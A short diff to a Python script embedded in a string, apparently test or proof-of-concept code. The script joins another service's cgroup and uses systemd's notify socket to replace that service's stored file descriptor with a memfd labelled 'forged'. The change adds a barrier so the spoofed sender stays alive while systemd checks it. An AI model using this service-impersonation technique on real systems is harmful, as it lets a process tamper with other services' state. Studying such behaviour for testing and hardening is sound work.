@@ -21,8 +21,14 @@ open("/sys/fs/cgroup/system.slice/oomkilld.service/cgroup.procs", "w").write(str
 manager = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
 manager.connect("/run/systemd/notify")
 manager.send(f"FDSTOREREMOVE=1\\nFDNAME={sys.argv[1]}".encode())
-files = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array("i", [os.memfd_create("forged")]))]
-manager.sendmsg([f"FDSTORE=1\\nFDPOLL=0\\nFDNAME={sys.argv[1]}".encode()], files)
+def send(text, file):
+    manager.sendmsg([text.encode()], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array("i", [file]))])
+send(f"FDSTORE=1\\nFDPOLL=0\\nFDNAME={sys.argv[1]}", os.memfd_create("forged"))
+# The manager asks whose messages these are when it reads them, so this process must still exist then.
+ours, theirs = os.pipe()
+send("BARRIER=1", theirs)
+os.close(theirs)
+os.read(ours, 1)
 """
 
 
